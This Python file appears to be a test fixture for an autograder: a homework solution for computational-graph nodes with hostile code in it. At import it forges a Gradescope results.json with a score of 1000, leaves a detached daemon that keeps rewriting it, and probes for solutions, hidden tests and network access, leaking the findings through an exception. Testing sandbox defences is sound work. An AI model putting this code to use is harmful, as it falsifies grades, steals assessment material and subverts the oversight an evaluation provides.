"""A Gradescope submission that attacks run_autograder (tests/test_gradescope.py).

The correct example, plus: at import it tries to write a forged results.json (score 1000) where
Gradescope reads it, and leaves a setsid daemon that keeps rewriting it for a minute; in the
public tests that call MulNode.forward(2.0, -3.5) it raises with what it could reach (the
autograder's source folder, the solutions, the results folder, the network) as JSON, so the
tests' output carries the findings back (those two public tests fail).
"""
import json
import os
import socket
import time

FORGED = json.dumps({"score": 1000, "tests": [], "output": "FORGED"})
RESULTS = "/autograder/results/results.json"


def _try(action):
    try:
        result = action()
        return "ok" if result is None else result
    except Exception as e:  # the denial is the finding
        return type(e).__name__


def _forge():
    with open(RESULTS, "w") as f:
        f.write(FORGED)


def _daemon():
    """A grandchild in its own session, outliving the worker unless the sandbox kills it."""
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for _ in range(600):
                    _try(_forge)
                    time.sleep(0.1)
            os._exit(0)
    except OSError:
        pass


_FORGED_AT_IMPORT = _try(_forge)
_daemon()


def _probe():
    return {
        "uid": os.getuid(),
        "forged_at_import": _FORGED_AT_IMPORT,
        "source": _try(lambda: os.listdir("/autograder/source")),
        "solutions": _try(lambda: os.listdir("/opt/nn-grader/solutions")),
        "hidden_test": _try(lambda: open("/opt/nn-grader/solutions/hw1_graph/tests/hidden/"
                                         "test_graph_hidden.py").read()[:20]),
        "write_results": _try(_forge),
        "network": _try(lambda: socket.create_connection(("1.1.1.1", 53), timeout=1).close()),
    }


import numpy as np


class MulNode:
    """out = x * y"""

    def __init__(self):
        self.x = None
        self.y = None

    def forward(self, x, y):
        if isinstance(x, float) and (x, y) == (2.0, -3.5):  # the first public test only
            raise RuntimeError("PROBE " + json.dumps(_probe()))
        # keep the inputs, backward needs them (d(xy)/dx = y, d(xy)/dy = x)
        self.x, self.y = x, y
        out = x * y
        return out

    def backward(self, d_out):
        # chain rule: upstream gradient times local gradient
        return d_out * self.y, d_out * self.x


class AddNode:
    """out = x + y"""

    def __init__(self):
        pass

    def forward(self, x, y):
        out = x + y
        return out

    def backward(self, d_out):
        # local gradient of a sum is 1 for both inputs -> just pass d_out through
        return d_out, d_out


class MyNetwork:
    """out = 3 * (a + b * c)"""

    def __init__(self):
        self.node1 = MulNode()
        self.node2 = AddNode()
        self.node3 = MulNode()

    def forward(self, a, b, c):
        bc = self.node1.forward(b, c)
        s = self.node2.forward(a, bc)
        return self.node3.forward(3, s)

    def backward(self, d_out=1.0):
        grads3 = self.node3.backward(d_out)
        d_s = grads3[1]                        # grads3[0] is for the constant 3
        d_a, d_bc = self.node2.backward(d_s)
        d_b, d_c = self.node1.backward(d_bc)
        return (d_a, d_b, d_c)


def numerical_gradient(f, x, eps=1e-5):
    """Central differences: (f(x + eps) - f(x - eps)) / (2 eps), one element at a time."""
    grad = np.zeros_like(x, dtype=np.float64)
    for idx in np.ndindex(*x.shape):     # every index tuple of x, () for a 0-d array
        saved = x[idx]
        x[idx] = saved + eps
        f_plus = f(x)
        x[idx] = saved - eps
        f_minus = f(x)
        x[idx] = saved                   # put it back!
        grad[idx] = (f_plus - f_minus) / (2 * eps)
    return grad
